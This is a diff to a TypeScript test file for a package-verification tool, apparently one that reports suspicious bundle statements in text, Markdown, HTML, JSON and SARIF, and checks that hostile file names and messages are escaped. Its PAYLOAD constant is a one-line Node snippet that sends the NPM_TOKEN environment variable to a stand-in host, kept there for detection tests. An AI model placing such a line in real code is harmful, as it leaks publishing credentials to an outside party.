@@ -1,29 +1,32 @@
 import { parse, type DefaultTreeAdapterTypes } from 'parse5';
 import { describe, expect, test } from 'vitest';
 import { FORMATS } from '../../src/report/formats.ts';
+import type { ResultDocument } from '../../src/report/document.ts';
+import { reportOf } from '../../src/report/report.ts';
 import { renderSarif } from '../../src/report/sarif.ts';
 import { divergedDocument, hostileDocument } from '../support/documents.ts';
 
+const printed = (document: ResultDocument) => ({ document, report: reportOf(document) });
 const OPTIONS = { color: false, width: 100 };
 const PAYLOAD = "require('https').get('https://collect.example/'+process.env.NPM_TOKEN);";
 
 describe('a statement in a bundle', () => {
   test.each(['text', 'markdown'] as const)('is shown as %s', async (format) => {
-    const shown = FORMATS[format](divergedDocument(), OPTIONS);
+    const shown = FORMATS[format](printed(divergedDocument()), OPTIONS);
     await expect(shown).toMatchFileSnapshot(`snapshots/diverged-${format}.txt`);
     expect(shown).toContain(PAYLOAD);
     expect(shown).toContain('talks to the network');
   });
 
   test('is shown on the page, with what it can do before everything else', () => {
-    const page = FORMATS.html(divergedDocument(), OPTIONS);
+    const page = FORMATS.html(printed(divergedDocument()), OPTIONS);
     const texts = textsOf(parse(page));
     expect(texts).toContain(PAYLOAD);
     expect(texts.indexOf('talks to the network')).toBeLessThan(texts.indexOf('Findings'));
   });
 
   test('is a result of SARIF, at its line', () => {
-    const [run] = renderSarif(divergedDocument()).runs;
+    const [run] = renderSarif(reportOf(divergedDocument())).runs;
     expect(run?.results?.[0]).toMatchObject({
       ruleId: 'file-changed',
       level: 'error',
@@ -36,14 +39,14 @@ describe('a statement in a bundle', () => {
   });
 
   test('is in the JSON document', () => {
-    expect(JSON.parse(FORMATS.json(divergedDocument(), OPTIONS))).toEqual(divergedDocument());
+    expect(JSON.parse(FORMATS.json(printed(divergedDocument()), OPTIONS))).toEqual(divergedDocument());
   });
 });
 
 test('what cannot be verified is a result of SARIF as well', () => {
   const reason = { code: 'no-repository', message: 'It names none.' } as const;
   const document = divergedDocument({ verdict: 'unverifiable', reason, findings: [], signals: [] });
-  expect(renderSarif(document).runs[0]?.results).toMatchObject([
+  expect(renderSarif(reportOf(document)).runs[0]?.results).toMatchObject([
     { ruleId: 'unverifiable/no-repository', level: 'note' },
   ]);
 });
@@ -71,7 +74,7 @@ const HOSTILE = [
 
 describe('attack: names, contents and messages that hold', () => {
   test.each(HOSTILE)('%s stay text on the page', (_, text) => {
-    const page = parse(FORMATS.html(hostileDocument(text), OPTIONS));
+    const page = parse(FORMATS.html(printed(hostileDocument(text)), OPTIONS));
     const elements = elementsOf(page);
     expect(elements.map(({ tagName }) => tagName).filter((name) => !ALLOWED.has(name))).toEqual([]);
     const attributes = elements.flatMap(({ attrs }) => attrs.map(({ name }) => name));
@@ -82,20 +85,20 @@ describe('attack: names, contents and messages that hold', () => {
 
   test.each(HOSTILE)('%s are no control characters of the terminal or the page', (_, text) => {
     for (const format of ['text', 'markdown', 'html'] as const) {
-      expect(FORMATS[format](hostileDocument(text), OPTIONS)).not.toMatch(
+      expect(FORMATS[format](printed(hostileDocument(text)), OPTIONS)).not.toMatch(
         /[\u0000-\u0009\u000b-\u001f\u202a-\u202e\u2066-\u2069]/,
       );
     }
   });
 
   test.each(HOSTILE)('%s stay text in Markdown', (_, text) => {
-    const shown = withoutCode(FORMATS.markdown(hostileDocument(text), OPTIONS));
+    const shown = withoutCode(FORMATS.markdown(printed(hostileDocument(text)), OPTIONS));
     expect(shown).not.toMatch(/(?<!\\)[[\]<>]|@\w|https?:\/\//);
     expect(shown.match(/^#+ /gm)?.length).toBe(1);
   });
 
   test.each(HOSTILE)('%s stay in their place in SARIF', (_, text) => {
-    const log = renderSarif(hostileDocument(text));
+    const log = renderSarif(reportOf(hostileDocument(text)));
     const uris = log.runs[0]?.results?.map(
       (one) => one.locations?.[0]?.physicalLocation?.artifactLocation?.uri,
     );
